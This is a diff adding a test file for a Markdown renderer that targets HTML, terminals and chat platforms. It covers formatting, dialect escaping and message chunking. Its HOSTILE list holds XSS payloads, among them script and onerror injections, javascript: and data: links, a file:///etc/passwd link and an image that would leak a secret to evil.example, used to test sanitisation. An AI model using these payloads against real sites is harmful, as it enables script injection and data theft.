@@ -1,0 +1,317 @@
+"""One reading of Markdown, and how it looks on a page, in a terminal and in each chat."""
+
+import io
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from rich.console import Console
+
+from crossclaw.display.chunks import CHARS_MIN, chunks
+from crossclaw.display.dialects import COLUMNS_MAX, DIALECTS, PLAIN
+from crossclaw.display.html import ATTRIBUTES, TAGS, to_html
+from crossclaw.display.reading import CHARS_MAX, is_safe_link, read
+from crossclaw.display.terminal import to_terminal
+
+PAGE = """# Title
+
+Some **bold *and italic* words**, ~~old~~ `a|b`, a [link](https://x.y/a_b).
+
+3. three
+4. four
+   - nested
+
+> quoted
+> > twice
+
+| left | right |
+|:-----|------:|
+| 1    | **2** |
+
+```py
+x = "```"
+```
+
+---
+
+End 🦀.
+"""
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<style>body{display:none}</style>",
+    '<p style="position:fixed" onclick="x()">over</p>',
+    "<iframe src='https://evil'></iframe>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x)",
+    "[x](file:///etc/passwd)",
+    "[x](/tools/invoke)",
+    "<javascript:alert(1)>",
+    '[x](https://a "onmouseover=alert(1)")',
+    '[x](https://a"onmouseover="alert(1))',
+    "![x](https://evil.example/?secret=1)",
+    "![x](javascript:alert(1))",
+    "```<script>\n</code></pre><script>alert(1)</script>\n```",
+    '```" onload="x\ncode\n```',
+    "| <b onclick=x>a</b> |\n|---|\n| </td><script>x</script> |",
+    "<svg><script>x</script></svg><math><style><img src=x onerror=y>",
+    "<!--><script>x</script>-->",
+]
+
+
+class Seen(HTMLParser):
+    """Every tag and attribute that a browser would see."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def assert_harmless(html: str) -> None:
+    for tag, attributes in Seen(html).tags:
+        assert tag in TAGS
+        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel", "target"}
+        if tag == "a" and "href" in attributes:
+            assert re.match(r"(https?|mailto):", attributes["href"] or "")
+            assert attributes["rel"] == "noopener noreferrer nofollow"
+
+
+# Pages
+
+
+@pytest.mark.spec("M8")
+def test_markdown_becomes_html_with_tables_code_lists_and_links() -> None:
+    html = to_html(PAGE)
+    for part in (
+        "<h1>Title</h1>",
+        "<strong>bold <em>and italic</em> words</strong>",
+        "<s>old</s>",
+        '<a href="https://x.y/a_b"',
+        '<ol start="3">',
+        "<li>nested</li>",
+        '<td align="right"><strong>2</strong></td>',
+        '<code class="language-py">',
+        "<blockquote>",
+    ):
+        assert part in html
+
+
+@pytest.mark.spec("M8")
+@pytest.mark.parametrize("markdown", HOSTILE)
+def test_hostile_markdown_is_shown_and_does_nothing(markdown: str) -> None:
+    assert_harmless(to_html(markdown))
+    assert_harmless(to_html(f"> - {markdown}"))
+
+
+def test_raw_html_is_text_that_a_person_can_read() -> None:
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in to_html("Do <script>alert(1)</script> this")
+
+
+def test_a_text_too_long_to_be_read_is_shown_as_it_was_written() -> None:
+    html = to_html("<b>**" + "x" * CHARS_MAX)
+    assert html.startswith("<pre>&lt;b&gt;**xxx")
+    assert_harmless(html)
+    made = chunks("x" * CHARS_MAX + "**", DIALECTS["discord"])
+    assert "".join(made) == "x" * CHARS_MAX + "\\*\\*"
+
+
+@pytest.mark.parametrize("mark", ["> ", "- ", "[", "**", "![", "`", "<", "|", "1. "])
+def test_deeply_nested_marks_are_survived_everywhere(mark: str) -> None:
+    deep = mark * 500 + "end"
+    assert_harmless(to_html(deep))
+    for dialect in DIALECTS.values():
+        assert all(dialect.length(m) <= dialect.chars_max for m in chunks(deep, dialect))
+
+
+def test_a_picture_is_a_link_and_never_fetched() -> None:
+    html = to_html("![the map](https://evil.example/?secret=1)")
+    assert "<img" not in html
+    assert ">the map</a>" in html
+
+
+@given(st.text(alphabet="<>[]()!`*_~|-#:\"'&;=/\\ \n\tabjavscriptonerd", max_size=80))
+def test_no_text_whatever_becomes_more_than_harmless_html(markdown: str) -> None:
+    assert_harmless(to_html(markdown))
+
+
+@pytest.mark.parametrize(
+    ("url", "safe"),
+    [
+        ("https://a", True), ("mailto:a@b.c", True), ("page.html", True), ("//host/x", True),
+        ("javascript:x", False), ("\tjava\nscript:x", False), ("DATA:x", False), ("file:/x", False),
+    ],
+)  # fmt: skip
+def test_links_lead_to_the_web_or_to_mail(url: str, safe: bool) -> None:
+    assert is_safe_link(url) is safe
+
+
+# Terminal
+
+
+@pytest.mark.spec("M8")
+def test_a_terminal_shows_raw_html_and_where_links_lead() -> None:
+    console = Console(file=io.StringIO(), width=100, highlight=False, force_terminal=False)
+    console.print(to_terminal(f"{PAGE}\n\nAnd <b>this</b>."))
+    assert isinstance(console.file, io.StringIO)
+    shown = console.file.getvalue()
+    for part in ("Title", "link (https://x.y/a_b)", "nested", "right", 'x = "```"', "<b>this</b>"):
+        assert part in shown
+    assert "**" not in shown
+
+
+# Chats
+
+
+@pytest.mark.spec("M8", "N9")
+@pytest.mark.parametrize(
+    ("name", "parts"),
+    [
+        ("plain", ["Title\n\n", "bold and italic words", "link (https://x.y/a_b)", "3. three"]),
+        (
+            "telegram",
+            [
+                "<b>Title</b>",
+                "<b>bold <i>and italic</i> words</b>",
+                '<a href="https://x.y/a_b">link</a>',
+                "<blockquote>quoted\n\ntwice</blockquote>",
+                '<pre><code class="language-py">x = "```"</code></pre>',
+                "<pre>left  right\n1     2</pre>",
+            ],
+        ),
+        (
+            "telegram-markdown",
+            ["*bold _and italic_ words*", "3\\. three", "[link](https://x.y/a_b)", "🦀\\."],
+        ),
+        ("discord", ["# Title", "**bold *and italic* words**", "[link](https://x.y/a_b)", "> > "]),
+        ("whatsapp", ["*Title*", "*bold _and italic_ words*", "~old~", "link (https://x.y/a_b)"]),
+        ("signal", ["• nested", "> quoted"]),
+        ("imessage", ["left  right\n1     2"]),
+    ],
+)
+def test_each_chat_has_its_dialect(name: str, parts: list[str]) -> None:
+    written = DIALECTS[name].write(read(PAGE))
+    for part in parts:
+        assert part in written
+
+
+@pytest.mark.parametrize(
+    ("name", "said", "written"),
+    [
+        ("telegram", "a < b & <b>c", "a &lt; b &amp; &lt;b&gt;c"),
+        ("telegram-markdown", "1+1=2 (really!)", "1\\+1\\=2 \\(really\\!\\)"),
+        ("discord", "snake\\_case @everyone <@12>", "snake\\_case @\u200beveryone \\<@12>"),
+        ("whatsapp", "2 \\* 3", "2 * 3"),
+        ("telegram", "**`a*b`**", "<code>a*b</code>"),
+        ("telegram", "**a *b*** *c*", "<b>a <i>b</i></b> <i>c</i>"),
+        ("telegram", "***a** b*", "<i><b>a</b> b</i>"),
+        ("plain", "<mailto:a@b.c> <https://a>", "a@b.c https://a"),
+    ],
+)  # fmt: skip
+def test_marks_of_the_text_are_not_marks_of_the_chat(name: str, said: str, written: str) -> None:
+    assert DIALECTS[name].write(read(said)).replace("mailto:", "") == written
+
+
+def test_three_backticks_do_not_end_a_fence_early() -> None:
+    for name in ("discord", "whatsapp"):
+        assert DIALECTS[name].write(read("````\n```\n````")).count("```") == 2
+
+
+def test_a_table_too_wide_for_a_phone_is_a_list() -> None:
+    wide = "x" * COLUMNS_MAX
+    assert PLAIN.write(read(f"| a | b |\n|---|---|\n| 1 | {wide} |")) == f"• a: 1, b: {wide}"
+
+
+def test_wide_letters_line_up() -> None:
+    table = PLAIN.write(read("| a | b |\n|---|---|\n| 日本 | 1 |\n| x | 2 |"))
+    assert table == "a     b\n日本  1\nx     2"
+
+
+# Chunks
+
+
+def test_a_short_reply_is_one_message_and_an_empty_one_none() -> None:
+    assert chunks("Hello **you**.", DIALECTS["telegram"]) == ["Hello <b>you</b>."]
+    assert chunks(" \n", PLAIN) == []
+
+
+@pytest.mark.spec("N9")
+def test_a_fence_that_fits_a_message_is_kept_whole() -> None:
+    code = "\n".join(f"line {n}" for n in range(40))
+    first, second = chunks(f"{'word ' * 70}\n\n```py\n{code}\n```", DIALECTS["discord"], 500)
+    assert "```" not in first
+    assert second == f"```py\n{code}\n```"
+
+
+@pytest.mark.spec("N9")
+def test_a_fence_longer_than_a_message_is_closed_and_opened_again() -> None:
+    lines = [f"line {n}" for n in range(200)]
+    made = chunks("```py\n" + "\n".join(lines) + "\n```", DIALECTS["discord"], 300)
+    assert len(made) > 5
+    assert all(m.startswith("```py\nline ") and m.endswith("\n```") for m in made)
+    assert [line for m in made for line in m.split("\n")[1:-1]] == lines
+
+
+def test_a_bold_paragraph_is_cut_between_words_and_stays_bold() -> None:
+    made = chunks(f"**{'word ' * 60}end**", DIALECTS["telegram"], 100)
+    assert len(made) > 2
+    assert all(re.fullmatch(r"<b>(word ?)*(end)?</b>", m) for m in made)
+
+
+def test_a_table_over_several_messages_repeats_its_head() -> None:
+    rows = "\n".join(f"| row {n} | {n} |" for n in range(60))
+    made = chunks(f"| name | number |\n|---|---|\n{rows}", DIALECTS["telegram"], 300)
+    assert len(made) > 2
+    assert all(m.startswith("<pre>name") for m in made)
+
+
+def test_a_list_keeps_its_numbers_over_several_messages() -> None:
+    items = "\n".join(f"{n}. {'long ' * 12}item {n}" for n in range(1, 20))
+    made = chunks(items, PLAIN, 200)
+    assert re.findall(r"^(\d+)\.", "\n".join(made), re.M) == [str(n) for n in range(1, 20)]
+
+
+WORDS = st.text(alphabet="ab <>*_`~|.\n🦀", min_size=1, max_size=300)
+PIECES = st.lists(
+    st.one_of(
+        WORDS,
+        WORDS.map(lambda text: f"\n\n```py\n{text}\n```\n\n"),
+        WORDS.map(lambda text: "\n\n> " + text.replace("\n", "\n> ") + "\n\n"),
+        WORDS.map(lambda text: "\n- " + text.replace("\n", "\n- ") + "\n"),
+        WORDS.map(lambda text: f"\n\n|a|b|\n|---|---|\n|x|{text.replace(chr(10), ' ')}|\n\n"),
+    ),
+    max_size=5,
+).map("".join)
+
+
+@pytest.mark.spec("N9")
+@given(PIECES, st.sampled_from(sorted(DIALECTS)), st.integers(CHARS_MIN, 400))
+def test_no_message_is_longer_than_the_platform_takes_and_no_word_is_lost(
+    markdown: str, name: str, room: int
+) -> None:
+    dialect = DIALECTS[name]
+    made = chunks(markdown, dialect, room)
+    assert all(dialect.length(message) <= room and message.strip() for message in made)
+    assert "".join(made).count("🦀") == dialect.write(read(markdown)).count("🦀")
+
+
+@given(PIECES, st.integers(CHARS_MIN, 400))
+def test_every_telegram_message_closes_what_it_opens(markdown: str, room: int) -> None:
+    for message in chunks(markdown, DIALECTS["telegram"], room):
+        open_tags: list[str] = []
+        for closing, tag in re.findall(r"<(/?)(\w+)[^>]*>", message):
+            if not closing:
+                open_tags.append(tag)
+            else:
+                assert open_tags.pop() == tag
+        assert not open_tags
